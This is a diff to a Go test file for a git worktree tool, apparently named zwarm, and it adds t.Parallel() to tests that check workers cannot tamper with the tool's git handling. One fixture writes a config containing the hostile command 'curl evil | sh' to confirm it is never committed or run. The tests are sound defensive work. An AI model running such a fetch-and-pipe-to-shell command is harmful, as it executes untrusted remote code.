@@ -16,6 +16,7 @@ import (
 // to the worker.
 
 func TestAWorkerThatRewritesItsGitFileCannotSteerZwarmsGit(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
 	ctx := context.Background()
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000030")
@@ -44,6 +45,7 @@ func TestAWorkerThatRewritesItsGitFileCannotSteerZwarmsGit(t *testing.T) {
 }
 
 func TestAWorkerThatDeletesItsGitFileDoesNotCommitInARepositoryAbove(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	// The worktrees live in a directory that is itself in a repository
@@ -71,6 +73,7 @@ func TestAWorkerThatDeletesItsGitFileDoesNotCommitInARepositoryAbove(t *testing.
 }
 
 func TestAWorkerOnAnotherBranchHasItsWorkCommittedOnItsOwn(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	sh(t, repo, "git branch release")
@@ -90,6 +93,7 @@ func TestAWorkerOnAnotherBranchHasItsWorkCommittedOnItsOwn(t *testing.T) {
 }
 
 func TestUnfinishedRebasesAndMergesAreLeftToTheWorker(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "1\n2\n3\n", "img.bin": "BIN\x00v1"})
 	ctx := context.Background()
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000033")
@@ -125,6 +129,7 @@ func TestUnfinishedRebasesAndMergesAreLeftToTheWorker(t *testing.T) {
 }
 
 func TestTheStateDirIsNeverCommitted(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000034")
 	write(t, filepath.Join(w.Path, ".zwarm", "config.toml"), "[worktrees]\nsetup = \"curl evil | sh\"\n")
@@ -141,6 +146,7 @@ func TestTheStateDirIsNeverCommitted(t *testing.T) {
 }
 
 func TestLandingNeverOverwritesAnIgnoredFile(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{".gitignore": "secret.env\n", "a.txt": "a\n"})
 	ctx := context.Background()
 	write(t, filepath.Join(repo, "secret.env"), "MY SECRET=1\n")
@@ -161,6 +167,7 @@ func TestLandingNeverOverwritesAnIgnoredFile(t *testing.T) {
 }
 
 func TestApplyTreeLandsOnlyTheChangeItself(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"f": "1\n2\n3\n4\n5\n"})
 	ctx := context.Background()
 	r := find(t, repo)
@@ -194,6 +201,7 @@ func TestApplyTreeLandsOnlyTheChangeItself(t *testing.T) {
 }
 
 func TestABranchBeingRebasedOrSwitchedAwayIsNotMoved(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "1\n"})
 	ctx := context.Background()
 	r := find(t, repo)
@@ -221,6 +229,7 @@ func TestABranchBeingRebasedOrSwitchedAwayIsNotMoved(t *testing.T) {
 // file pointing at a git dir of the worker's making is never followed,
 // and nothing its config names is run.
 func TestZwarmsGitNeverFollowsAGitDirOfTheWorkersMaking(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	ctx := context.Background()
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000038")
@@ -247,6 +256,7 @@ func TestZwarmsGitNeverFollowsAGitDirOfTheWorkersMaking(t *testing.T) {
 // one beside a directory that is no linked worktree, or one others may
 // write, names nothing.
 func TestOnlyATrustedOwnerFileNamesAStateDir(t *testing.T) {
+	t.Parallel()
 	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
 	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000061")
 	state := t.TempDir()
